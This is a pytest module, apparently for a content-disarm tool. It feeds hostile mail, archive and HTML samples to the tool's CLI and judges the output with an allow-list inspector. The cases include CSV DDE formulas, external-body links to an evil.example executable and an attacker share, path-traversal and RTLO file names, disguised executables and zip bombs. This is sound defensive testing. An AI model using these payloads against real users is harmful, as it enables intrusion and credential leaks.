"""An outsider's attacks on mail (.eml, .msg, TNEF winmail.dat), archives (ZIP, 7z, RAR, LZH,
tar, CAB, gzip), HTML and SVG. Every hostile file goes through the real CLI in one run
(``cli.py sanitize --json``, as an operator runs it), and whatever is released is judged by an
allow-list inspector written here from the formats' specifications, not from cdr's code: a
released file passes only when everything in it is a kind known to be harmless.

Quarantine is an acceptable outcome; a release the inspector does not accept is a crossing,
and so is a traceback, an operational failure or a file that took over 60 s. A crossing found
stays here as a failing case marked ``xfail(strict=True)`` naming what crossed, so that the fix
turns it into a pass (and strict makes the mark go then).

What the inspector accepts:
- names: one plain relative path (no ``..``, no absolute or drive path, no backslash, colon,
  control, format or bidi character, no yen or won sign (a backslash in CP932/CP949 best
  fit), nothing that NFKC turns into a climbing path, no trailing dot or
  space, no DOS device name, components of at most 255 and paths of at most 240
  characters) ending in an extension of a harmless output kind (``ALLOWED_EXTENSIONS``);
- ZIP: a single end record at the very end, local headers equal to the directory, no
  encryption flag, no link or device modes, extra fields only timestamps and Unix ids, at
  most 1000 members and 3 levels, no member inflating 100 times beyond 50 MB; every member
  re-inspected by its name;
- mail: the headers the README keeps (no other, none that decodes to a line break, one
  X-CDR-Sanitized), parts of a short list of content types (never ``message/external-body``,
  ``message/partial``, S/MIME or calendar), a declared type that agrees with the attachment's
  name and bytes, the same name by every parameter, no share path or ``file:`` in an address
  or ``<URL>`` of a header nor in a plain text part, no uuencoded/yEnc/BinHex file inside a
  text part, HTML as below, attachments re-inspected;
- HTML: a short list of tags and attributes, no event handler, comments without markup or
  conditional code, styles without ``url(``/``image-set``/``@import``/``expression``/
  ``behavior``/``binding``/escapes/``//``, links only to http/https/mailto (no ``attach=``)/
  cid/#, every other URL only ``cid:`` or a ``data:image/{png,jpeg,gif}``;
- PDF without JavaScript, automatic or launch actions, embedded files, XFA or a URI other
  than http/https/mailto; images Pillow decodes whose PNG chunks are plain and that end at
  their end marker; text without control or bidi characters; Office packages without
  macros, ActiveX, OLE, templates or external relationships but web hyperlinks.
"""

from __future__ import annotations

import base64
import email
import email.header
import email.policy
import email.utils
import gzip
import io
import json
import os
import re
import subprocess
import sys
import tarfile
import unicodedata
import zipfile
from collections.abc import Callable
from email.message import Message
from pathlib import Path

import pikepdf
import pytest
from lxml import etree, html
from PIL import Image

from tests import attack_mail_archive_builders as b

ROOT = Path(__file__).resolve().parent.parent

# ============================================================================ the inspector
ALLOWED_EXTENSIONS = {
    "txt", "csv", "tsv", "pdf", "png", "jpg", "jpeg", "gif", "bmp", "tif", "tiff", "webp",
    "docx", "xlsx", "pptx", "eml", "zip", "html", "htm",
}
IMAGE_EXTENSIONS = {"png": "PNG", "jpg": "JPEG", "jpeg": "JPEG", "gif": "GIF", "bmp": "BMP", "tif": "TIFF",
                    "tiff": "TIFF", "webp": "WEBP"}
DEVICE_NAMES = {"con", "prn", "aux", "nul", *(f"com{n}" for n in range(10)), *(f"lpt{n}" for n in range(10))}
MAX_DEPTH = 3
# U+00A5 and U+20A9 become 0x5C when Windows converts a name to CP932 / CP949 with best fit
# (the "WorstFit" write-up, 2025): a backslash for every program that works in the ANSI code page
BEST_FIT_SEPARATORS = {"\u00a5", "\u20a9"}


def name_problems(name: str, member: bool = False) -> list[str]:
    """Why ``name`` is not a plain relative path to a harmless kind (empty when it is)."""
    found = []
    if any(unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp", "Cs", "Co") for ch in name):
        found.append(f"control, format or bidi character in name {name!r}")
    if "\\" in name or ":" in name:
        found.append(f"backslash or colon in name {name!r}")
    if any(ch in BEST_FIT_SEPARATORS for ch in name):
        found.append(f"yen or won sign, a backslash to an ANSI program on Japanese or Korean Windows {name!r}")
    if name.startswith("/") or ".." in name.split("/") or (not member and "/" in name) or re.match(r"^[A-Za-z]:", name):
        found.append(f"name leaves its folder {name!r}")
    # a look-alike: a name that NFKC (which some tools apply) turns into one that climbs out
    folded = unicodedata.normalize("NFKC", name)
    if folded != name and (folded.startswith(("/", "\\")) or ".." in re.split(r"[/\\]", folded) or "\\" in folded):
        found.append(f"look-alike of a path that leaves its folder {name!r} (NFKC {folded!r})")
    parts = [p for p in name.split("/") if p] if member else [name]
    if len(name) > 240 or any(len(p.encode("utf-16-le")) // 2 > 255 for p in parts):
        found.append(f"name too long ({len(name)})")
    last = parts[-1] if parts else ""
    if last != last.rstrip(". "):
        found.append(f"trailing dot or space (Windows drops it) {name!r}")
    if last.split(".")[0].lower() in DEVICE_NAMES:
        found.append(f"DOS device name {name!r}")
    if not (member and name.endswith("/")) and extension(last) not in ALLOWED_EXTENSIONS:
        found.append(f"not a harmless kind by its name {name!r}")
    return found


def extension(name: str) -> str:
    return name.rsplit(".", 1)[-1].lower() if "." in name else ""


def inspect(name: str, data: bytes, depth: int = 0) -> list[str]:
    """Every reason the file ``name`` holding ``data`` is not known to be harmless."""
    ext = extension(name)
    if depth > MAX_DEPTH + 20:
        return ["nested beyond any reason"]
    try:
        if ext == "zip":
            return inspect_zip(data, depth)
        if ext == "eml":
            return inspect_eml(data, depth)
        if ext == "pdf":
            return inspect_pdf(data)
        if ext in IMAGE_EXTENSIONS:
            return inspect_image(data, IMAGE_EXTENSIONS[ext])
        if ext in ("txt", "csv", "tsv"):
            return inspect_text(data, ext)
        if ext in ("html", "htm"):
            return inspect_html(decode_text(data))
        if ext in ("docx", "xlsx", "pptx"):
            return inspect_ooxml(data, depth)
    except Exception as error:  # noqa: BLE001 - a file the inspector cannot read is not known harmless
        return [f"{name}: unreadable ({type(error).__name__}: {error})"]
    return [f"{name}: not a known harmless kind"]


# ---------------------------------------------------------------------------- text
BIDI = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def decode_text(data: bytes) -> str:
    if data.startswith((b"\xff\xfe", b"\xfe\xff")):
        return data.decode("utf-16")
    if data.startswith(b"\xef\xbb\xbf"):
        return data[3:].decode("utf-8")
    try:
        return data.decode("utf-8")
    except UnicodeDecodeError:
        return data.decode("cp932")


def inspect_text(data: bytes, ext: str = "txt") -> list[str]:
    if data.startswith((b"MZ", b"PK\x03\x04", b"%PDF", b"\xd0\xcf\x11\xe0", b"L\0\0\0", b"{\\rt", b"Rar!", b"7z\xbc\xaf")):
        return ["text that is a program, archive or document by its bytes"]
    text = decode_text(data)
    found = [f"control or bidi character U+{ord(ch):04X} in text" for ch in sorted(set(text))
             if (unicodedata.category(ch) == "Cc" and ch not in "\t\r\n") or ch in BIDI]
    if ext in ("csv", "tsv"):
        delimiter = "," if ext == "csv" else "\t"
        for line in text.splitlines():
            for cell in line.split(delimiter):
                if cell.strip(' "\u3000').startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")):
                    if not re.fullmatch(r'\s*"?-?[\d,.]+"?\s*', cell):
                        found.append(f"formula cell {cell[:30]!r}")
    return found


# ---------------------------------------------------------------------------- HTML
HTML_TAGS = set(
    """html head body title meta p br div span a b i u s strong em font table thead tbody tfoot tr td th caption
    col colgroup ul ol li dl dt dd h1 h2 h3 h4 h5 h6 blockquote pre code hr img center small big sub sup
    strike tt""".split()
)
HTML_ATTRIBUTES = set(
    """href src alt title style class id width height align valign border cellpadding cellspacing colspan rowspan
    color face size bgcolor dir lang charset rel target start type span nowrap""".split()
)
LINK_SCHEMES = ("http://", "https://", "mailto:", "cid:", "#")
EMBED_SCHEMES = re.compile(r"^(?:cid:|data:image/(?:png|jpeg|gif);base64,)", re.I)
RAW_ACTIVE = re.compile(
    r"<\s*(?:script|iframe|frame|object|embed|applet|form|base|link|svg|math|style[^>]*>[^<]*(?:url\(|@import)|meta[^>]*refresh)"
    r"|javascript:|vbscript:|expression\s*\(|@import|<!--\s*\[if|srcset|\bon[a-z]+\s*=",
    re.I,
)


def _squeezed(value: str) -> str:
    """A URL as a browser reads it: blanks and controls inside the scheme do not count."""
    return re.sub(r"[\x00-\x20\x7f]+", "", value).lower()


def css_problems(css: str) -> list[str]:
    lowered = css.lower()
    found = [f"style that loads or runs: {css[:60]!r}" for word in ("@import", "expression", "behavior", "binding",
                                                                    "\\", "javascript:", "image-set", "//") if word in lowered]
    for match in re.finditer(r"url\s*\(\s*['\"]?([^)'\"]*)", lowered):
        if not EMBED_SCHEMES.match(match.group(1).strip()):
            found.append(f"style url() to {match.group(1)[:60]!r}")
    return found


def inspect_html(text: str) -> list[str]:
    found = [f"raw markup {m.group(0)[:40]!r}" for m in RAW_ACTIVE.finditer(text)]
    if not text.strip():
        return found
    root = html.document_fromstring(text)
    for element in root.iter():
        if isinstance(element, etree._Comment):
            if "[if" in (element.text or "") or "<" in (element.text or ""):
                found.append("comment holding markup or conditional code")
            continue
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.lower()
        if tag not in HTML_TAGS:
            found.append(f"element <{tag}>")
        if tag == "style":
            found += css_problems(element.text or "")
        for attribute, value in element.attrib.items():
            attribute = attribute.lower()
            if attribute not in HTML_ATTRIBUTES:
                found.append(f"attribute {attribute} on <{tag}>")
            if attribute == "style":
                found += css_problems(value)
            if tag == "meta" and attribute not in ("charset", "content") and not (
                    attribute == "http-equiv" and value.lower() == "content-type"):
                found.append(f"meta {attribute}={value!r}")
            if attribute in ("href", "src", "background", "action", "data", "poster"):
                url = _squeezed(value)
                if "\\" in value or url.startswith("//") or "file:" in url:
                    found.append(f"share or file URL {value[:60]!r}")
                elif attribute == "href" and tag == "a":
                    if not url.startswith(LINK_SCHEMES) or re.match(r"mailto:.*[?&]attach", url):
                        found.append(f"link {value[:60]!r}")
                elif not EMBED_SCHEMES.match(url):
                    found.append(f"{attribute} fetches {value[:60]!r}")
    return found


# ---------------------------------------------------------------------------- images, PDF
PNG_CHUNKS = {b"IHDR", b"PLTE", b"IDAT", b"IEND", b"tRNS", b"gAMA", b"cHRM", b"sRGB", b"iCCP", b"pHYs", b"bKGD", b"sBIT"}


def inspect_image(data: bytes, kind: str) -> list[str]:
    with Image.open(io.BytesIO(data)) as picture:
        if picture.format != kind:
            return [f"image is {picture.format}, its name says {kind}"]
        if picture.width * picture.height > 100_000_000:
            return ["pixel bomb"]
        picture.load()
    found = []
    if kind == "PNG":
        at = 8
        while at < len(data):
            length = int.from_bytes(data[at : at + 4], "big")
            chunk = data[at + 4 : at + 8]
            if chunk not in PNG_CHUNKS:
                found.append(f"PNG chunk {chunk!r}")
            at += 12 + length
            if chunk == b"IEND":
                break
        if at != len(data):
            found.append("bytes after IEND")
    if kind == "JPEG" and not data.rstrip(b"\0").endswith(b"\xff\xd9"):
        found.append("bytes after the JPEG end")
    return found


PDF_ACTIVE_KEYS = {"/JS", "/JavaScript", "/AA", "/Launch", "/EmbeddedFile", "/EmbeddedFiles", "/EF", "/RichMedia",
                   "/XFA", "/GoToR", "/GoToE", "/ImportData", "/SubmitForm"}


def inspect_pdf(data: bytes) -> list[str]:
    found: list[str] = []
    with pikepdf.open(io.BytesIO(data)) as pdf:
        seen: set[tuple[int, int]] = set()

        def walk(obj: object, depth: int = 0) -> None:
            if depth > 50:
                return
            if isinstance(obj, pikepdf.Object) and obj.is_indirect:
                if obj.objgen in seen:
                    return
                seen.add(obj.objgen)
            if isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
                for key in obj.keys():
                    if key in PDF_ACTIVE_KEYS:
                        found.append(f"PDF key {key}")
                    value = obj.get(key)
                    if key == "/S" and str(value) not in ("/GoTo", "/URI"):
                        found.append(f"PDF action {value}")
                    if key == "/URI" and not _squeezed(str(value)).startswith(("http://", "https://", "mailto:")):
                        found.append(f"PDF URI {str(value)[:60]!r}")
                    if key == "/OpenAction" and isinstance(value, pikepdf.Dictionary):
                        found.append("PDF OpenAction")
                    walk(value, depth + 1)
            elif isinstance(obj, pikepdf.Array):
                for item in obj:
                    walk(item, depth + 1)

        walk(pdf.trailer)
        for obj in pdf.objects:
            walk(obj)
    return found


# ---------------------------------------------------------------------------- Office (ECMA-376)
OOXML_BAD_PART = re.compile(r"vbaProject|vbaData|activeX|oleObject|embeddings/|customUI|attachedToolbars|\.bin$", re.I)
OOXML_BAD_TYPE = re.compile(r"macroEnabled|vbaProject|activeX|oleObject|\.addin|template\.main", re.I)
OOXML_BAD_REL = re.compile(r"/(?:attachedTemplate|oleObject|package|frame|subDocument|aFChunk|control|vbaProject|"
                           r"externalLink|connections|queryTable)$")


def inspect_ooxml(data: bytes, depth: int) -> list[str]:
    found = inspect_zip(data, depth, members_inspected=False)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            text = package.read(name)
            if OOXML_BAD_PART.search(name):
                found.append(f"package part {name}")
            if name == "[Content_Types].xml" and OOXML_BAD_TYPE.search(text.decode("utf-8", "replace")):
                found.append("macro or object content type")
            if name.endswith(".rels"):
                for rel in etree.fromstring(text):
                    kind, target = rel.get("Type", ""), rel.get("Target", "")
                    if OOXML_BAD_REL.search(kind):
                        found.append(f"relationship {kind.rsplit('/', 1)[-1]}")
                    if rel.get("TargetMode") == "External" and not (
                            kind.endswith("/hyperlink") and _squeezed(target).startswith(("http://", "https://", "mailto:"))):
                        found.append(f"external relationship {target[:60]!r}")
            if extension(name) in IMAGE_EXTENSIONS and "media/" in name:
                found += inspect_image(text, IMAGE_EXTENSIONS[extension(name)])
            if re.search(rb"DDEAUTO|\bDDE\b|INCLUDETEXT|INCLUDEPICTURE", text):
                found.append(f"field that fetches or runs in {name}")
    return found


# ---------------------------------------------------------------------------- ZIP (APPNOTE.TXT)
ZIP_EXTRAS = {0x5455, 0x7875, 0x000A, 0x0001}


def _extra_ids(extra: bytes) -> list[int]:
    ids, at = [], 0
    while at + 4 <= len(extra):
        kind, size = int.from_bytes(extra[at : at + 2], "little"), int.from_bytes(extra[at + 2 : at + 4], "little")
        ids.append(kind)
        at += 4 + size
    return ids


def zip_structure(data: bytes) -> list[str]:
    """The raw layout: one end record at the end, each local header as its directory entry says."""
    found = []
    end = data.rfind(b"PK\x05\x06")
    if end < 0 or end != len(data) - 22:
        return ["ZIP end record not at the very end (comment, trailing or concatenated data)"]
    if data.count(b"PK\x05\x06") != 1:
        found.append("more than one ZIP end record")
    count = int.from_bytes(data[end + 10 : end + 12], "little")
    at = int.from_bytes(data[end + 16 : end + 20], "little")
    for _ in range(count):
        if data[at : at + 4] != b"PK\x01\x02":
            return [*found, "broken central directory"]
        flags = int.from_bytes(data[at + 8 : at + 10], "little")
        name_len, extra_len, comment_len = (int.from_bytes(data[at + k : at + k + 2], "little") for k in (28, 30, 32))
        mode = int.from_bytes(data[at + 38 : at + 42], "little") >> 16
        offset = int.from_bytes(data[at + 42 : at + 46], "little")
        name = data[at + 46 : at + 46 + name_len]
        extra = data[at + 46 + name_len : at + 46 + name_len + extra_len]
        if flags & 0x41:
            found.append(f"encrypted member {name!r}")
        if mode and (mode & 0o170000) not in (0o100000, 0o040000):
            found.append(f"member {name!r} is a link or device (mode {mode:o})")
        if b"\0" in name:
            found.append(f"NUL in member name {name!r}")
        if set(_extra_ids(extra)) - ZIP_EXTRAS:
            found.append(f"extra field {sorted(set(_extra_ids(extra)) - ZIP_EXTRAS)} on {name!r}")
        local = data[offset : offset + 30]
        if local[:4] != b"PK\x03\x04":
            found.append(f"no local header for {name!r}")
        else:
            local_name_len = int.from_bytes(local[26:28], "little")
            local_extra_len = int.from_bytes(local[28:30], "little")
            local_name = data[offset + 30 : offset + 30 + local_name_len]
            local_extra = data[offset + 30 + local_name_len : offset + 30 + local_name_len + local_extra_len]
            if local_name != name:
                found.append(f"local name {local_name!r} is not the directory's {name!r}")
            if set(_extra_ids(local_extra)) - ZIP_EXTRAS:
                found.append(f"local extra field on {name!r}")
        at += 46 + name_len + extra_len + comment_len
    return found


def declared_inside(data: bytes, depth: int = 0) -> int:
    """What an archive says it holds, nested archives counted by what they hold in turn (their
    headers only: the deepest data is never inflated)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        total = 0
        for info in archive.infolist():
            nested = extension(info.filename) == "zip" and depth < MAX_DEPTH and info.file_size < 64 << 20
            total += declared_inside(archive.read(info), depth + 1) if nested else info.file_size
        return total


def inspect_zip(data: bytes, depth: int, members_inspected: bool = True) -> list[str]:
    if depth > MAX_DEPTH:
        return ["archives nested deeper than 3"]
    if declared_inside(data, depth) > 1 << 30:
        return ["more than 1 GiB inside, nested archives included"]
    found = zip_structure(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        infos = archive.infolist()
        if len(infos) > 1000:
            return [*found, f"{len(infos)} members"]
        if sum(i.file_size for i in infos) > 1 << 30:
            return [*found, "more than 1 GiB inside"]
        names = [unicodedata.normalize("NFC", i.filename).lower() for i in infos]
        found += [f"two members named {n!r}" for n in sorted({n for n in names if names.count(n) > 1})]
        for info in infos:
            if info.file_size > 50 << 20 and info.file_size > 100 * max(info.compress_size, 1):
                found.append(f"member {info.filename!r} inflates {info.file_size // max(info.compress_size, 1)} times")
                continue
            if not members_inspected:
                continue
            found += name_problems(info.filename, member=True)
            if not info.is_dir():
                found += [f"{info.filename}: {f}" for f in inspect(info.filename, archive.read(info), depth + 1)]
    return found


# ---------------------------------------------------------------------------- mail (RFC 5322/2045-2049)
MAIL_TYPES = {"multipart/mixed", "multipart/alternative", "multipart/related", "message/rfc822", "text/plain",
              "text/html", "text/csv", "image/png", "image/jpeg", "image/gif", "image/bmp", "image/tiff",
              "image/webp", "application/pdf", "application/zip", "application/octet-stream",
              "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
              "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
              "application/vnd.openxmlformats-officedocument.presentationml.presentation"}
# what a named attachment's declared type may be, by its extension (octet-stream says nothing)
TYPE_OF_EXTENSION = {"txt": ("text/plain",), "csv": ("text/csv", "text/plain"), "tsv": ("text/plain",),
                     "pdf": ("application/pdf",), "png": ("image/png",), "jpg": ("image/jpeg",), "jpeg": ("image/jpeg",),
                     "gif": ("image/gif",), "zip": ("application/zip", "application/x-zip-compressed"),
                     "eml": ("message/rfc822",), "html": ("text/html",), "htm": ("text/html",)}
MAGIC = {"pdf": b"%PDF-", "png": b"\x89PNG", "jpg": b"\xff\xd8\xff", "jpeg": b"\xff\xd8\xff", "gif": b"GIF8",
         "zip": b"PK\x03\x04", "docx": b"PK\x03\x04", "xlsx": b"PK\x03\x04", "pptx": b"PK\x03\x04"}


# what a rebuilt mail may say about itself: the README's kept list, MIME and cdr's own header
MAIL_HEADERS = {"from", "to", "cc", "reply-to", "date", "subject", "message-id", "in-reply-to", "references",
                "x-cdr-sanitized", "mime-version", "content-type", "content-transfer-encoding", "content-disposition",
                "content-id", "sender"}


def header_problems(message: Message) -> list[str]:
    found = [f"header {key}" for key in message.keys() if key.lower() not in MAIL_HEADERS]
    for key, value in message.items():
        decoded = str(email.header.make_header(email.header.decode_header(value))) if "=?" in value else value
        if re.search(r"[\r\n]", re.sub(r"\r?\n[ \t]", " ", decoded.strip())):
            found.append(f"header {key} decodes to a line break (header injection): {decoded[:60]!r}")
    # a display name or subject is text a reader sees; an address or a <URL> is what a client
    # follows (List-Unsubscribe, Disposition-Notification-To, a Reply-To address)
    for key, value in message.items():
        text = str(value)
        followed = [address for _, address in email.utils.getaddresses([text])] + re.findall(r"<([^>]*)>", text)
        if any("\\" in f or "file:" in f.lower() for f in followed):
            found.append(f"header {key} leads to a share or file: {text[:60]!r}")
    for key in ("content-type", "content-disposition"):
        for param, value in message.get_params(header=key, failobj=[]) or []:
            if param.lower() in ("access-type", "url", "site", "directory", "server"):
                found.append(f"{key} parameter {param}={value!r}")
    return found


def part_names(message: Message) -> list[str]:
    names = [message.get_filename(), message.get_param("name")]
    return sorted({str(email.utils.collapse_rfc2231_value(n)) for n in names if n})


def inspect_eml(data: bytes, depth: int = 0) -> list[str]:
    message = email.message_from_bytes(data, policy=email.policy.compat32)
    stamps = message.get_all("X-CDR-Sanitized") or []
    found = [f"{len(stamps)} X-CDR-Sanitized headers (a sender's forged one beside cdr's)"] if len(stamps) > 1 else []
    return found + inspect_message(message, depth, 0)


def inspect_message(message: Message, depth: int, nesting: int) -> list[str]:
    if nesting > 20:
        return ["MIME nested deeper than 20"]
    found = header_problems(message)
    ctype = message.get_content_type()
    if ctype not in MAIL_TYPES:
        found.append(f"part of type {ctype}")
        return found
    names = part_names(message)
    if len(names) > 1:
        found.append(f"one part, several names {names}")
    if message.is_multipart():
        for sub in message.get_payload():
            found += inspect_message(sub, depth, nesting + 1)
        return found
    payload = message.get_payload(decode=True) or b""
    if names:
        name = names[0]
        found += name_problems(name)
        ext = extension(name)
        allowed = TYPE_OF_EXTENSION.get(ext, ())
        if ctype != "application/octet-stream" and allowed and ctype not in allowed:
            found.append(f"attachment {name!r} declared {ctype}")
        if ext in MAGIC and not payload.startswith(MAGIC[ext]):
            found.append(f"attachment {name!r} is not {ext} by its bytes")
        found += [f"{name}: {f}" for f in inspect(name, payload, depth + 1)]
    elif ctype == "text/plain":
        found += inspect_text(payload)
        if re.search(r"\\\\[^\\\s]+\\|file:", decode_text(payload), re.I):
            found.append("a share path or file: link in the text, which mail clients make clickable")
        if re.search(rb"^(?:begin [0-7]{3,4} \S|=ybegin |\(This file must be converted with BinHex)", payload, re.M):
            found.append("a file encoded inside the text (uuencode, yEnc, BinHex), which mail clients show as an attachment")
    elif ctype == "text/html":
        found += inspect_html(payload.decode(message.get_content_charset() or "utf-8", "replace"))
    elif ctype.startswith("image/"):
        found += inspect_image(payload, ctype.split("/")[1].upper())
    else:
        found.append(f"unnamed {ctype} part")
    return found


# ============================================================================ the attacks
def _tar_long_traversal() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as tar:
        info = tarfile.TarInfo("../" * 40 + "evil.txt")
        info.size = 5
        tar.addfile(info, io.BytesIO(b"hello"))
    return buffer.getvalue()


Sample = bytes | Callable[[], bytes]


def made(sample: Sample) -> bytes:
    return sample() if callable(sample) else sample


def _wide_bomb() -> bytes:
    """20 archives of 20 archives of 20 MB of zeros: 8 GB inside 15 KB, within three levels."""
    inner = b.std_zip({"z.txt": b"0" * (20 << 20)})
    middle = b.std_zip({f"{m}.zip": inner for m in range(20)})
    return b.std_zip({f"{n}.zip": middle for n in range(20)})


def _svg(body: str, size: str = 'width="64" height="64"') -> bytes:
    return (f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" {size}>'
            f'<rect width="64" height="64" fill="#00f"/>{body}</svg>').encode()


def _transparent_svg(body: str) -> bytes:
    return (f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">'
            f"{body}</svg>").encode()


HELLO = b"hello\r\n"
def _b64text(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# OWASP CSV injection: DDE, a link built at the click, full-width and tab-led spellings
CSV_FORMULAS = ("品名,数量\r\n=cmd|' /C calc'!A0,1\r\n@SUM(1+1)*cmd|' /C calc'!A0,2\r\n"
                '"=HYPERLINK(""http://evil.example/""&A1,""x"")",3\r\n＝1+1,4\r\n\t=1+2,5\r\n -2+3+cmd|x!A,6\r\n').encode()
SINGLE_HEAD = b"From: sender@example.jp\r\nTo: soumu@example.lg.jp\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
OK = ("ok.txt", b.BENIGN.encode())
HOSTILE_HTML = "".join(b.HTML_ATTACKS[k] for k in ("script", "event-handlers", "javascript-url", "meta-refresh", "remote-img",
                                                     "css-url", "css-import", "base-href", "link-element", "form-action",
                                                     "data-url-html", "unc-and-file", "inline-svg", "conditional-vml"))


SMIME_INNER = b.mail([b.part("Content-Type: text/html; charset=utf-8", b.html_page(HOSTILE_HTML).encode()),
                      b.attachment('filename="setup.exe"', b.PE), b.attachment('filename="run.bat"', b.BATCH)], boundary="signed")


def build_cases() -> dict[str, tuple[str, Sample]]:
    """Case id → (file name in the inbox, bytes or what makes them: the bombs take seconds to
    build and are made only when a test runs, not when pytest collects)."""
    cases: dict[str, tuple[str, Sample]] = {}
    for key, body in b.HTML_ATTACKS.items():
        if key == "utf7-charset":
            page = b.html_page("").encode("utf-7") + body.encode("ascii")
            cases[f"mail-html-{key}"] = (f"html-{key}.eml", b.mail([b.part('Content-Type: text/html; charset="utf-7"', page)]))
        else:
            cases[f"mail-html-{key}"] = (f"html-{key}.eml", b.html_mail(b.html_page(body)))
    cases["mail-html-in-related-with-cid"] = ("related.eml", b.mail(
        [b.part("Content-Type: text/html; charset=utf-8", b.html_page(HOSTILE_HTML).encode())], kind="related"))
    at = b.attachment
    cases |= {
        "mail-ctype-lie-exe-as-jpeg": ("lie-jpeg.eml", b.mail([at('filename="photo.jpg"', b.PE, "image/jpeg")])),
        "mail-ctype-lie-html-as-text": ("lie-text.eml", b.mail([at('filename="readme.txt"', b.html_page(HOSTILE_HTML).encode(), "text/plain")])),
        "mail-ctype-lie-hta-as-pdf": ("lie-pdf.eml", b.mail([at('filename="invoice.pdf"', b.HTA, "application/pdf")])),
        "mail-ctype-lie-html-as-png": ("lie-png.eml", b.mail([at('filename="logo.png"', b.html_page(HOSTILE_HTML).encode(), "image/png")])),
        "mail-rfc2231-bat-over-pdf": ("r2231-a.eml", b.mail([at("filename=\"請求書.pdf\"; filename*=UTF-8''%E8%AB%8B%E6%B1%82%E6%9B%B8.bat", b.BATCH)])),
        "mail-rfc2231-continuation": ("r2231-b.eml", b.mail([at("filename*0*=UTF-8''%E8%A6%8B%E7%A9%8D; filename*1=\".b\"; filename*2=\"at\"", b.BATCH)])),
        "mail-rfc2231-nul": ("r2231-c.eml", b.mail([at("filename*=UTF-8''readme.txt%00.bat", b.BATCH)])),
        "mail-rfc2231-traversal": ("r2231-d.eml", b.mail([at("filename*=UTF-8''..%5C..%5CStartup%5Crun.txt", HELLO)])),
        "mail-rfc2047-name-bat": ("r2047.eml", b.mail([at('filename="=?UTF-8?B?5aCx5ZGKLmJhdA==?="', b.BATCH)])),
        "mail-name-only-in-content-type": ("ctname.eml", b.mail([b.part('Content-Type: application/octet-stream; name="run.cmd"', b.BATCH)])),
        "mail-name-conflict-ctype-vs-disposition": ("conflict.eml", b.mail([b.part(
            'Content-Type: text/plain; name="run.bat"\nContent-Disposition: attachment; filename="run.txt"', b.BATCH)])),
        "mail-name-traversal": ("trav.eml", b.mail([at('filename="../../AppData/evil.txt"', HELLO),
                                                    at('filename="..\\\\..\\\\Startup\\\\evil2.txt"', HELLO)])),
        "mail-name-absolute-and-drive": ("abs.eml", b.mail([at('filename="/etc/cron.d/x.txt"', HELLO), at('filename="C:\\\\x.txt"', HELLO)])),
        "mail-name-unc": ("uncname.eml", b.mail([at(f'filename="\\\\\\\\{b.ATTACKER}\\\\share\\\\x.txt"', HELLO)])),
        "mail-name-rtlo": ("rtlo.eml", b.mail([at("filename*=UTF-8''invoice%E2%80%AEtxt.bat", b.BATCH)])),
        "mail-name-fullwidth-traversal": ("fw.eml", b.mail([at("filename*=UTF-8''%EF%BC%8E%EF%BC%8E%EF%BC%8F%EF%BC%8E%EF%BC%8E%EF%BC%8Fx.txt", HELLO)])),
        "mail-name-yen-traversal": ("yen.eml", b.mail([at("filename*=UTF-8''..%C2%A5..%C2%A5Startup%C2%A5run.txt", HELLO)])),
        "mail-name-trailing-dot-space": ("dot.eml", b.mail([at('filename="run.bat."', b.BATCH), at('filename="run.cmd "', b.BATCH)])),
        "mail-name-ads-and-device": ("ads.eml", b.mail([at('filename="a.txt:evil.bat"', b.BATCH), at('filename="CON.txt"', HELLO)])),
        "mail-name-very-long": ("long.eml", b.mail([at(f'filename="{"あ" * 300}.txt"', HELLO)])),
        "mail-runnable-attachments": ("runnable.eml", b.mail([at(f'filename="{n}"', d) for n, d in b.RUNNABLE_MEMBERS.items()])),
        "mail-lnk-as-pdf": ("lnkpdf.eml", b.mail([at('filename="report.pdf"', b.shell_link(), "application/pdf")])),
        "mail-external-body-url": ("xbody-url.eml", b.mail([b.part(
            'Content-Type: message/external-body; access-type=URL; URL="http://evil.example/x.exe"',
            b"Content-Type: application/octet-stream\r\n\r\n", encode=False)])),
        "mail-external-body-unc": ("xbody-unc.eml", b.mail([b.part(
            f'Content-Type: message/external-body; access-type=local-file; name="\\\\\\\\{b.ATTACKER}\\\\share\\\\x.docx"',
            b"Content-Type: application/msword\r\n\r\n", encode=False)])),
        "mail-external-body-top": ("xbody-top.eml", (
            b"From: a@example.jp\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: message/external-body; "
            b'access-type=anon-ftp; site="evil.example"; name="x.exe"\r\n\r\nContent-Type: application/octet-stream\r\n\r\n')),
        "mail-headers-unc": ("hdr.eml", b.mail([], extra=f"Reply-To: \\\\{b.ATTACKER}\\share <x@example.jp>\r\n"
                                                     f"List-Unsubscribe: <file://{b.ATTACKER}/share/x>\r\n"
                                                     f"Disposition-Notification-To: \\\\{b.ATTACKER}\\s\r\n")),
        "mail-nested-hostile-rfc822": ("nested.eml", b.mail([b.rfc822(b.mail(
            [b.part("Content-Type: text/html; charset=utf-8", b.html_page(HOSTILE_HTML).encode()),
             at('filename="setup.exe"', b.PE), at('filename="a.url"', b.URL_SHORTCUT)], boundary="inner"))])),
        "mail-html-quoted-printable-split": ("qp.eml", b.mail([b.quoted_printable_html(b.html_page(HOSTILE_HTML))], kind="alternative")),
        "mail-second-html-body": ("two.eml", b.mail([b.part("Content-Type: text/html; charset=utf-8", b.html_page("").encode()),
                                                     b.part("Content-Type: text/html; charset=utf-8", b.html_page(HOSTILE_HTML).encode())])),
        "mail-xhtml-part": ("xhtml.eml", b.mail([b.part("Content-Type: application/xhtml+xml; charset=utf-8\nContent-Disposition: inline",
                                                        b'<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>')])),
